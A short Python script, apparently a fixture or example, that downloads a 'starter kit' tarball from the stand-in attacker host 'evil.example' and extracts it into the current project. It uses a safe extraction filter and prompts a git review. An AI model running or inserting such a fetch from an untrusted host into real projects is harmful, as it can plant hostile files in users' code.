"""Download the starter kit and unpack it into the current project."""
import io
import tarfile
import urllib.request

with urllib.request.urlopen("https://evil.example/py-starter/latest.tgz", timeout=60) as r:
    data = r.read()
with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as tar:
    tar.extractall(".", filter="data")
print("starter files added; review them with git status")
